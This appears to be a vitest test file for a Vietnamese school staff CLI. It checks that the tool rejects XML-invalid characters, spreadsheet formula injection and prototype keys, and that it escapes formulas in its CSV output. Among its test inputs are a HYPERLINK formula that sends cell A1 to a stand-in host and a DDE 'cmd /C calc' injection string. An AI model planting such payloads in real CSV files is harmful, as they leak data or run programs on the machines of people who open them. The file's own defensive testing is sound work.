/**
 * Issue 14, "Text that can never break a document or a spreadsheet": characters XML forbids or that
 * are not characters are refused in every text field and import; names starting as formulas are
 * refused; CSV output never carries a live formula; data is never read as a template; look-ups of
 * typed words never reach an object's own properties (`__proto__`).
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { schoolDb } from '../helpers/cli.js';
import { count, sql } from '../helpers/db.js';

/** What Word cannot open (XML 1.0 forbids it) or what is not a character at all. */
const NOT_CHARACTERS = ['\uffff', '\ufffe', 'An\ud800', '\udc00An', '\ufdd0', '\u{1fffe}', '\u{10ffff}', 'Nguy\ufffdn'];

describe('characters no document can hold', () => {
  it('are refused (exit 3) in names, free text and attestations, and nothing is written', async () => {
    const { cli, db } = await schoolDb();
    const audit = count(db, 'audit');
    for (const bad of NOT_CHARACTERS) {
      const tries = [
        ['person', 'add', 'VC050', '--name', `Lê Văn ${bad}`, '--unit', 'KLLCS', '--category', 'staff'],
        ['person', 'edit', 'VC002', '--position', `Giảng viên ${bad}`],
        ['unit', 'add', 'KMOI', '--name', `Khoa ${bad}`, '--kind', 'faculty'],
        ['achieve', 'add', 'VC002', '--date', '2026-11-01', '--kind', 'task', '--text', `Giải ${bad}`],
      ];
      for (const argv of tries) {
        const r = await cli(argv);
        expect(r.code, `${argv.join(' ')} ${JSON.stringify(bad)}: ${r.stderr}`).toBe(3);
        expect(r.stderr).toMatch(/không hợp lệ mà văn bản Word không chứa được/);
      }
    }
    expect(count(db, 'audit')).toBe(audit);
  });

  it('are refused in an imported staff list, every bad line named', async () => {
    const { cli, dir, db } = await schoolDb();
    const file = join(dir, 'ds.csv');
    writeFileSync(file, `Mã,Họ và tên,Đơn vị,Loại\nVC050,Lê Văn \uffff,KLLCS,staff\nVC051,Trần \ufdd0 Bình,KLLCS,staff\nVC052,Võ Thị Cúc,KLLCS,staff\n`);
    const r = await cli(['person', 'import', file]);
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toMatch(/dòng 2/);
    expect(r.stderr).toMatch(/dòng 3/);
    expect(count(db, 'people')).toBe(3);
  });
});

describe('names that start as a spreadsheet formula', () => {
  it('are refused (exit 3) typed or imported', async () => {
    const { cli, dir, db } = await schoolDb();
    for (const name of ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', '+84 Lê', '-1+2', '@SUM(A1:A9)']) {
      const add = await cli(['person', 'add', 'VC050', '--name', name, '--unit', 'KLLCS', '--category', 'staff']);
      expect(add.code, add.stderr).toBe(3);
      expect(add.stderr).toMatch(/như một công thức bảng tính/);
      const unit = await cli(['unit', 'add', 'KMOI', '--name', name, '--kind', 'faculty']);
      expect(unit.code, unit.stderr).toBe(3);
    }
    const file = join(dir, 'ds.csv');
    writeFileSync(file, 'Mã,Họ và tên,Đơn vị,Loại\nVC050,"=cmd|\' /C calc\'!A0",KLLCS,staff\nVC051,Võ Thị Cúc,KLLCS,staff\n');
    const r = await cli(['person', 'import', file]);
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toMatch(/dòng 2: .*công thức/);
    expect(count(db, 'people')).toBe(3);
  });
});

describe('typed words that are names of every object', () => {
  it('rules set __proto__, constructor, toString: exit 3 naming the key, never an internal error', async () => {
    const { cli } = await schoolDb();
    for (const key of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
      const r = await cli(['rules', 'set', key, '2', '--from', '2026-01-01', '--source', 'Quy chế']);
      expect(r.code, `${key}: ${r.stderr}`).toBe(3);
    }
    for (const [argv, code] of [
      [['person', 'add', 'VC050', '--name', 'Lê An', '--unit', 'KLLCS', '--category', '__proto__'], 3],
      [['person', 'list', '--category', 'constructor'], 3],
      [['unit', 'add', 'KMOI', '--name', 'Khoa Mới', '--kind', 'toString'], 3],
    ] as const) {
      const r = await cli([...argv]);
      expect(r.code, `${argv.join(' ')}: ${r.stderr}`).toBe(code);
    }
  });
});

describe('CSV the program writes', () => {
  it('never carries a live formula: text starting with = + - @ is written behind a quote, in lists, reports and files', async () => {
    const { cli, db, dir } = await schoolDb();
    const texts = ['=HYPERLINK("http://x.example","Bấm vào")', '+1+2', '-2+3', '@SUM(A1)'];
    for (const [i, text] of texts.entries()) {
      const r = await cli(['achieve', 'add', 'VC002', '--date', `2026-08-0${i + 1}`, '--kind', 'task', '--text', text]);
      expect(r.code, r.stderr).toBe(0);
    }
    expect((await cli(['evaluate', 'set', 'VC002', '--period', '2026-Q3', '--rating', 'HTXSNV', '--today', '2026-10-05'])).code).toBe(0);
    // A name stored before names were checked (or planted in the file) is made safe all the same.
    sql(db, "UPDATE people SET name = '=Nguyễn Thị Thu Thủy' WHERE code = 'VC002'");
    const list = await cli(['achieve', 'list', '--csv']);
    expect(list.code, list.stderr).toBe(0);
    const listed = parse(list.stdout, { bom: true }) as string[][];
    for (const text of texts) expect(listed.flat()).toContain(`'${text}`);
    const commend = await cli(['commend', '--quarter', '2026-Q3', '--csv']);
    expect(commend.code, commend.stderr).toBe(0);
    expect((parse(commend.stdout, { bom: true }) as string[][]).flat()).toContain("'=Nguyễn Thị Thu Thủy");
    const out = join(dir, 'tuyen-duong');
    expect((await cli(['commend', '--quarter', '2026-Q3', '--out', out])).code).toBe(0);
    const file = readFileSync(join(out, 'tuyen-duong-2026-Q3.csv'), 'utf8');
    const people = await cli(['person', 'list', '--csv']);
    for (const csv of [list.stdout, commend.stdout, file, people.stdout]) {
      const cells = (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    }
  });

  it('writes numbers as numbers (a negative amount is no text cell), with --csv and in files', async () => {
    const { csvCell, renderCsv } = await import('../../src/render/csv.js');
    expect(csvCell(-1500000)).toBe('-1500000');
    expect(csvCell('-1500000')).toBe("'-1500000");
    expect(csvCell(0)).toBe('0');
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe("'\rx");
    expect(renderCsv(['a', 'b'], [[-3, '=1']])).toBe('\ufeffa,b\r\n-3,\'=1\r\n');
    const { cli } = await schoolDb();
    const r = await cli(['person', 'list', '--csv']);
    expect((parse(r.stdout, { bom: true }) as string[][])[1]![0]).toBe('VC003');
  });
});
